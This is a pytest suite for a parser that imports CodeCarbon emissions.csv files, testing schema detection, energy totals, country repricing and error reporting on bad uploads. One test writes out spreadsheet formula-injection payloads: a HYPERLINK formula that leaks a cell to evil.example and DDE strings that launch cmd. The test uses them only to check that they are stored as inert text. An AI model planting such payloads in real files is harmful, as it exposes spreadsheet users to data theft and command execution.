"""Importing a CodeCarbon ``emissions.csv`` (``carbon_core.io.codecarbon``): schemas, totals, repricing, bad uploads.

The fixtures in ``tests/fixtures/codecarbon/`` are small made-up files, one per supported schema, with the
column sets read from CodeCarbon's source (see the module docstring). Broken uploads are built in memory.
"""

from __future__ import annotations

import csv
import io
import random
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from numpy.testing import assert_allclose

from carbon_core.countries import COLUMNS as COUNTRY_COLUMNS
from carbon_core.grid import latest_grid
from carbon_core.io.codecarbon import (
    MAX_ROWS,
    SCHEMAS,
    CodeCarbonError,
    MeasuredRun,
    measured_breakdown_kwh,
    parse_emissions_csv,
    reprice_in_countries,
)
from explorer.codecarbon import MAX_UPLOAD_BYTES

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "codecarbon"
SCHEMA = {s.id: s for s in SCHEMAS}


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def to_csv(rows: list[list[str]]) -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)  # so that a cell holding "\r" or "\n" is quoted
    return buf.getvalue().encode("utf-8")


def with_cell(data: bytes, line: int, column: str, value: str) -> bytes:
    """``data`` with the cell of ``column`` on CSV line ``line`` (header = 1) replaced by ``value``."""
    rows = rows_of(data)
    rows[line - 1][rows[0].index(column)] = value
    return to_csv(rows)


def error_of(data: bytes) -> CodeCarbonError:
    with pytest.raises(CodeCarbonError) as info:
        parse_emissions_csv(data)
    return info.value


CURRENT = fixture("current_38.csv")


# --- Schemas ------------------------------------------------------------------------------------------------


def test_schema_column_counts():
    """The column sets read from CodeCarbon: 38 now, 32/31/29 for the 2.x files, 12 in 2020, 36 in a task file."""
    counts = {s.id: len(s.columns) for s in SCHEMAS}
    assert counts == {"current_38": 38, "v2_32": 32, "v2_31": 31, "v2_29": 29, "v1_12": 12, "task_36": 36}
    for schema in SCHEMAS:
        assert len(set(schema.columns)) == len(schema.columns)
        assert set(schema.required) <= set(schema.columns)


def test_fixture_headers_are_the_schemas():
    for schema in SCHEMAS:
        name = "current_38.csv" if schema.id == "current_38" else f"{schema.id}.csv"
        assert tuple(rows_of(fixture(name))[0]) == schema.columns


@pytest.mark.parametrize(
    ("name", "schema", "rows", "runs", "components"),
    [
        ("current_38.csv", "current_38", 4, 2, True),
        ("current_38_bom_crlf.csv", "current_38", 4, 2, True),
        ("v2_32.csv", "v2_32", 2, 2, True),
        ("v2_31.csv", "v2_31", 2, 2, True),
        ("v2_29.csv", "v2_29", 2, 1, True),
        ("v1_12.csv", "v1_12", 3, 3, False),
        ("task_36.csv", "task_36", 2, 2, True),
    ],
)
def test_each_schema_is_detected(name, schema, rows, runs, components):
    m = parse_emissions_csv(fixture(name))
    assert isinstance(m, MeasuredRun)
    assert (m.schema, m.schema_exact, m.missing_columns, m.extra_columns) == (schema, True, (), ())
    assert (m.row_count, m.run_count, m.has_components) == (rows, runs, components)
    assert len(m.rows) == rows and int(m.rows["counted"].sum()) == runs
    assert m.energy_kwh > 0 and m.emissions_kg_co2e > 0 and m.duration_s > 0


def test_current_schema_totals_count_the_last_row_of_each_run():
    """Run A was flushed twice (3 cumulative rows), run B written once: totals = A's last row + B's row."""
    m = parse_emissions_csv(CURRENT)
    assert m.rows["counted"].tolist() == [False, False, True, True]
    assert m.rows["line"].tolist() == [2, 3, 4, 5]
    assert m.duration_s == pytest.approx(5400.9 + 600.0)
    assert m.cpu_energy_kwh == pytest.approx(0.0845 + 0.0094)
    assert m.gpu_energy_kwh == pytest.approx(0.4507 + 0.0431)
    assert m.ram_energy_kwh == pytest.approx(0.0282 + 0.0031)
    assert m.energy_kwh == pytest.approx(0.5634 + 0.0556)
    assert m.emissions_kg_co2e == pytest.approx((0.5634 + 0.0556) * 0.0561)
    assert m.emissions_t_co2e == pytest.approx(m.emissions_kg_co2e / 1000)
    assert m.reported_grid_g_co2e_per_kwh == pytest.approx(56.1)
    # Summing every row would count run A's first hour three times.
    assert m.rows["energy_kwh"].sum() > 1.5 * m.energy_kwh


def test_current_schema_metadata():
    m = parse_emissions_csv(CURRENT)
    assert m.country_iso_codes == ("FRA",)
    assert m.country_names == ("France",)
    assert m.regions == ("île-de-france",)
    assert m.project_names == ("llm-finetune",)
    assert m.codecarbon_versions == ("3.3.0",)
    assert m.pue_values == (1.0,)
    assert str(m.first_timestamp) == "2026-03-02 09:30:05"
    assert str(m.last_timestamp) == "2026-03-02 11:10:00"
    assert list(m.rows.columns) == [
        "line",
        "timestamp",
        "project_name",
        "run_id",
        "country_iso_code",
        "duration_s",
        "energy_kwh",
        "cpu_energy_kwh",
        "gpu_energy_kwh",
        "ram_energy_kwh",
        "emissions_kg_co2e",
        "counted",
    ]


def test_breakdown_adds_up_to_the_measured_energy():
    m = parse_emissions_csv(CURRENT)
    parts = measured_breakdown_kwh(m)
    assert set(parts) == {"cpu", "gpu", "ram", "other"}
    assert parts["cpu"] == pytest.approx(0.0939) and parts["gpu"] == pytest.approx(0.4938)
    assert parts["ram"] == pytest.approx(0.0313)
    assert parts["other"] == 0.0
    assert sum(parts.values()) == pytest.approx(m.energy_kwh)


def test_breakdown_of_a_file_with_no_components_is_all_other():
    m = parse_emissions_csv(fixture("v1_12.csv"))
    assert m.cpu_energy_kwh == m.gpu_energy_kwh == m.ram_energy_kwh == 0.0
    assert measured_breakdown_kwh(m) == {"cpu": 0.0, "gpu": 0.0, "ram": 0.0, "other": pytest.approx(0.0427)}
    assert m.country_iso_codes == ("USA", "TWN", "CAN")
    assert m.duration_s == 34 + 16 + 19


def test_breakdown_other_is_the_unattributed_remainder():
    data = with_cell(fixture("v2_29.csv"), 3, "energy_consumed", "0.05")
    parts = measured_breakdown_kwh(parse_emissions_csv(data))
    assert parts["other"] == pytest.approx(0.05 - 0.0213 - 0.0137 - 0.0058)
    data = with_cell(fixture("v2_29.csv"), 3, "energy_consumed", "0.01")  # less than its parts: clipped
    assert measured_breakdown_kwh(parse_emissions_csv(data))["other"] == 0.0


def test_older_schemas():
    v32 = parse_emissions_csv(fixture("v2_32.csv"))
    assert v32.pue_values == (1.0, 1.2) and v32.country_iso_codes == ("DEU",)
    assert v32.energy_kwh == pytest.approx(0.1932 + 0.3928 + 0.3241 + 0.1125 + 0.2359 + 0.1888)
    v31 = parse_emissions_csv(fixture("v2_31.csv"))  # blank gpu_count / ram_total_size, negative longitude
    assert v31.country_names == ("Morocco",) and v31.codecarbon_versions == ("2.1.3",)
    v29 = parse_emissions_csv(fixture("v2_29.csv"))  # one run flushed once: only its last row counts
    assert v29.energy_kwh == pytest.approx(0.0408) and v29.duration_s == pytest.approx(1800.9)
    assert v29.pue_values == () and v29.codecarbon_versions == ()


def test_task_file_counts_every_task_of_the_run():
    m = parse_emissions_csv(fixture("task_36.csv"))
    assert m.run_count == 2
    assert m.energy_kwh == pytest.approx(0.00165 + 0.1967)


def test_bom_and_crlf_read_like_the_plain_file():
    plain, bom = parse_emissions_csv(CURRENT), parse_emissions_csv(fixture("current_38_bom_crlf.csv"))
    assert bom == plain
    pd.testing.assert_frame_equal(bom.rows, plain.rows)


def test_column_order_does_not_matter():
    rows = rows_of(CURRENT)
    order = list(range(len(rows[0])))
    random.Random(4).shuffle(order)
    m = parse_emissions_csv(to_csv([[r[i] for i in order] for r in rows]))
    assert (m.schema, m.schema_exact) == ("current_38", True)
    assert m.energy_kwh == pytest.approx(parse_emissions_csv(CURRENT).energy_kwh)


def test_a_header_close_to_a_schema_is_read_and_the_difference_reported():
    rows = rows_of(CURRENT)
    gone = rows[0].index("gpu_utilization_percent")
    rows = [[c for i, c in enumerate(r) if i != gone] + ["x"] for r in rows]
    rows[0][-1] = "my_note"
    m = parse_emissions_csv(to_csv(rows))
    assert (m.schema, m.schema_exact) == ("current_38", False)
    assert m.missing_columns == ("gpu_utilization_percent",) and m.extra_columns == ("my_note",)


def test_formula_cells_are_kept_as_plain_text():
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    data = with_cell(CURRENT, 2, "project_name", formula)
    data = with_cell(data, 3, "project_name", "+cmd|' /C calc'!A0")
    data = with_cell(data, 4, "region", "-2+3")
    data = with_cell(data, 5, "region", "@SUM(1+1)*cmd|' /C calc'!A0")
    m = parse_emissions_csv(data)
    assert m.project_names == (formula, "+cmd|' /C calc'!A0", "llm-finetune")
    assert m.regions == ("île-de-france", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0")
    assert m.rows["project_name"].iloc[0] == formula


def test_blank_lines_are_skipped_and_lines_still_counted():
    data = CURRENT.replace(b"\n", b"\n\n", 2)  # blank lines after the header and after line 2
    m = parse_emissions_csv(data)
    assert m.row_count == 4 and m.rows["line"].tolist() == [3, 5, 6, 7]
    assert error_of(with_cell(data, 7, "energy_consumed", "abc")).row == 7
    assert error_of(data.replace(b"0.0845,", b"-0.0845,")).row == 6


def test_unparseable_timestamps_do_not_reject_the_file():
    m = parse_emissions_csv(with_cell(fixture("v1_12.csv"), 2, "timestamp", "2020-04-31T03:26:11"))
    assert str(m.first_timestamp) == "2020-03-24 15:26:11"
    m = parse_emissions_csv(with_cell(fixture("v1_12.csv"), 2, "timestamp", "2020-03-23T08:26:11.000Z"))
    assert str(m.first_timestamp) == "2020-03-23 08:26:11"  # offsets are converted to naive UTC
    for edge in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"):  # out of range once in UTC
        m = parse_emissions_csv(with_cell(fixture("v1_12.csv"), 2, "timestamp", edge))
        assert str(m.first_timestamp) == "2020-03-24 15:26:11"


# --- Repricing ----------------------------------------------------------------------------------------------


def test_reprice_columns_rows_and_sorting():
    m = parse_emissions_csv(CURRENT)
    table = reprice_in_countries(m)
    grid = latest_grid()
    assert list(table.columns) == COUNTRY_COLUMNS
    assert len(table) == len(grid) - 1  # every country; the World is a reference
    assert table["total_t_co2e"].is_monotonic_increasing
    assert (table["embodied_t_co2e"] == 0).all()
    assert_allclose(table["operational_t_co2e"], m.energy_kwh * table["grid_g_co2e_per_kwh"] / 1e6, rtol=1e-12)
    assert_allclose(table["total_t_co2e"], table["operational_t_co2e"], rtol=0)
    by_country = table.set_index("iso3")
    for iso3 in ("FRA", "POL"):
        assert by_country.loc[iso3, "grid_g_co2e_per_kwh"] == grid.loc[iso3, "grid_g_co2e_per_kwh"]


def test_reprice_france_is_cheaper_than_poland():
    table = reprice_in_countries(parse_emissions_csv(CURRENT)).set_index("iso3")
    assert table.loc["FRA", "total_t_co2e"] < table.loc["POL", "total_t_co2e"]
    assert table.index.get_loc("FRA") < table.index.get_loc("POL")


def test_reprice_with_other_intensities():
    m = parse_emissions_csv(fixture("v1_12.csv"))
    mine = pd.DataFrame(
        {"iso3": ["AAA", "BBB"], "country": ["A", "B"], "year": [2024, 2024], "grid_g_co2e_per_kwh": [500.0, 20.0]}
    ).assign(source="test")
    table = reprice_in_countries(m, mine)
    assert table["iso3"].tolist() == ["BBB", "AAA"]
    assert_allclose(table["total_t_co2e"], [m.energy_kwh * 20 / 1e6, m.energy_kwh * 500 / 1e6])


# --- Bad uploads: each names the problem, the line and the column ------------------------------------------


def test_empty_file():
    err = error_of(b"")
    assert (err.row, err.column) == (None, None) and "empty" in str(err)
    assert "blank" in str(error_of(b" \r\n\n  \n"))


def test_header_only():
    header = CURRENT.split(b"\n")[0] + b"\n"
    err = error_of(header)
    assert err.row is None and "header" in str(err) and "no data rows" in str(err)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "PNG image"),
        (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40, "xlsx"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PDF"),
        ("timestamp,duration\n".encode("utf-16"), "UTF-16"),
        (CURRENT[:300] + b"\x00\x01\x02" + CURRENT[300:], "NUL byte"),
    ],
)
def test_binary_files(data, words):
    err = error_of(data)
    assert err.row is None and words in str(err)


def test_latin1_is_not_utf8():
    latin1 = CURRENT.decode("utf-8").encode("latin-1")  # "île-de-france" becomes byte 0xEE on line 2
    err = error_of(latin1)
    assert (err.row, err.column) == (2, None)
    assert "not UTF-8" in str(err) and "0xEE" in str(err) and str(err).startswith("Line 2: ")


def test_some_other_csv():
    err = error_of(b"name,age,city\nAlice,30,Paris\nBob,41,Lyon\n")
    assert (err.row, err.column) == (1, None)
    assert "not a CodeCarbon emissions.csv" in str(err) and "'name'" in str(err)


def test_semicolon_separated_export():
    err = error_of(CURRENT.replace(b",", b";"))
    assert err.row == 1 and "semicolons" in str(err)


def test_missing_required_column():
    rows = rows_of(CURRENT)
    gone = rows[0].index("energy_consumed")
    err = error_of(to_csv([[c for i, c in enumerate(r) if i != gone] for r in rows]))
    assert (err.row, err.column) == (1, "energy_consumed")
    assert "'energy_consumed'" in str(err) and "38 columns" in str(err) and "current_38" in str(err)


def test_missing_columns_of_an_old_schema_are_all_listed():
    rows = rows_of(fixture("v1_12.csv"))
    keep = [i for i, c in enumerate(rows[0]) if c not in ("duration", "emissions")]
    err = error_of(to_csv([[r[i] for i in keep] for r in rows]))
    assert (err.row, err.column) == (1, "duration")
    assert "'duration', 'emissions'" in str(err) and "v1_12" in str(err)


def test_duplicate_column():
    rows = rows_of(CURRENT)
    rows[0][rows[0].index("wue")] = "pue"
    err = error_of(to_csv(rows))
    assert (err.row, err.column) == (1, "pue") and "twice" in str(err)


def test_row_broken_halfway():
    lines = CURRENT.split(b"\n")
    lines[3] = lines[3][: len(lines[3]) // 2]  # line 4 stops in the middle
    err = error_of(b"\n".join(lines))
    header = rows_of(CURRENT)[0]
    cut = len(next(csv.reader([lines[3].decode()])))
    assert (err.row, err.column) == (4, header[cut])
    assert f"has {cut} cells but the header has 38" in str(err) and str(err).startswith("Line 4, ")


def test_file_cut_off_in_the_last_row():
    err = error_of(CURRENT[: len(CURRENT) - 200])
    assert err.row == 5 and "cells" in str(err)


def test_row_with_too_many_cells():
    lines = CURRENT.split(b"\n")
    lines[2] += b",surplus"
    err = error_of(b"\n".join(lines))
    assert (err.row, err.column) == (3, None) and "39 cells" in str(err)


def test_unclosed_quote_at_the_end():
    err = error_of(CURRENT + b'2026-03-02T12:00:00,"llm-finetune,3f1c')
    assert err.row == 6 and "never closed" in str(err)


def test_stray_character_after_a_closing_quote():
    err = error_of(with_cell(CURRENT, 3, "project_name", "PLACEHOLDER").replace(b"PLACEHOLDER", b'"a"b'))
    assert err.row == 3 and "closing quote" in str(err)


@pytest.mark.parametrize("column", ["energy_consumed", "gpu_energy", "duration", "emissions"])
def test_negative_measured_value(column):
    err = error_of(with_cell(CURRENT, 4, column, "-0.25"))
    assert (err.row, err.column) == (4, column)
    assert "negative" in str(err) and str(err).startswith(f"Line 4, column '{column}': '-0.25'")


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("NaN", "not a finite number"),
        ("nan", "not a finite number"),
        ("inf", "not a finite number"),
        ("-Infinity", "not a finite number"),
        ("1e999", "not a finite number"),
        ("abc", "not a number"),
        ("0,5", "not a number"),
        ("1_000", "not a number"),
        ("=1+1", "not a number"),
        ("١٢", "not a number"),
        ("", "empty"),
        ("   ", "empty"),
    ],
)
def test_bad_number_in_a_measured_column(value, words):
    err = error_of(with_cell(CURRENT, 3, "energy_consumed", value))
    assert (err.row, err.column) == (3, "energy_consumed") and words in str(err)


@pytest.mark.parametrize(("column", "value"), [("cpu_power", "-3"), ("pue", "inf"), ("gpu_count", "two")])
def test_bad_number_in_another_numeric_column(column, value):
    err = error_of(with_cell(CURRENT, 5, column, value))
    assert (err.row, err.column) == (5, column)


def test_blank_optional_numbers_and_negative_coordinates_are_fine():
    data = with_cell(with_cell(CURRENT, 2, "cpu_power", ""), 3, "longitude", "-122.4194")
    assert parse_emissions_csv(data).row_count == 4


def test_too_many_rows():
    header = ",".join(SCHEMA["v1_12"].columns)
    row = "2020-03-23T09:26:11,,p,1,0,0,,USA,,,,"
    data = (header + "\n" + "\n".join([row] * (MAX_ROWS + 1)) + "\n").encode()
    assert len(data) < MAX_UPLOAD_BYTES
    err = error_of(data)
    assert err.row == MAX_ROWS + 2 and f"more than {MAX_ROWS:,} data rows" in str(err)
    exactly = (header + "\n" + "\n".join([row] * MAX_ROWS) + "\n").encode()
    assert parse_emissions_csv(exactly).row_count == MAX_ROWS


def test_huge_cell():
    err = error_of(with_cell(CURRENT, 2, "os", "x" * 200_000))
    assert err.row == 2 and "longer than" in str(err)


def test_the_error_is_a_value_error_and_not_bytes_is_a_type_error():
    assert issubclass(CodeCarbonError, ValueError)
    with pytest.raises(TypeError):
        parse_emissions_csv(CURRENT.decode())  # type: ignore[arg-type]


# --- Speed and robustness -----------------------------------------------------------------------------------


def test_largest_uploads_parse_fast():
    lines = CURRENT.split(b"\n")
    wide = b"\n".join([lines[0], *[lines[1]] * ((MAX_UPLOAD_BYTES - 1000) // (len(lines[1]) + 1))])
    header = ",".join(SCHEMA["v1_12"].columns)
    narrow = (header + "\n" + "\n".join(["2020-03-23T09:26:11,,p,1,0,0,,USA,,,,"] * MAX_ROWS)).encode()
    for data in (wide, narrow):
        start = time.perf_counter()
        m = parse_emissions_csv(data)
        assert time.perf_counter() - start < 3.0
        assert m.row_count > 10_000


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4096))
def test_arbitrary_bytes_only_raise_codecarbon_errors(data):
    try:
        parse_emissions_csv(data)
    except CodeCarbonError as err:
        assert str(err)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=2000))
def test_arbitrary_text_only_raises_codecarbon_errors(text):
    try:
        parse_emissions_csv(text.encode("utf-8", errors="surrogatepass"))
    except CodeCarbonError as err:
        assert str(err)


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(["timestamp", "project_name", "run_id", "country_iso_code", "region", "os", "cpu_model"]),
    st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=200),
)
def test_any_text_in_a_text_column_is_kept_verbatim(column, value):
    m = parse_emissions_csv(with_cell(CURRENT, 2, column, value))
    assert m.row_count == 4
    if column in m.rows.columns:
        assert m.rows[column].iloc[0] == value


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(sorted(p.name for p in FIXTURES.glob("*.csv"))),
    st.integers(min_value=0, max_value=3000),
    st.binary(max_size=8),
)
def test_damaged_real_files_only_raise_codecarbon_errors(name, cut, junk):
    """A real file cut anywhere, with junk spliced in: either read or refused with a CodeCarbonError."""
    data = fixture(name)
    cut = min(cut, len(data))
    for damaged in (data[:cut], data[:cut] + junk + data[cut:]):
        try:
            m = parse_emissions_csv(damaged)
        except CodeCarbonError as err:
            assert str(err)
        else:
            assert np.isfinite([m.energy_kwh, m.duration_s, m.emissions_kg_co2e]).all()
            assert min(m.energy_kwh, m.duration_s, m.emissions_kg_co2e) >= 0
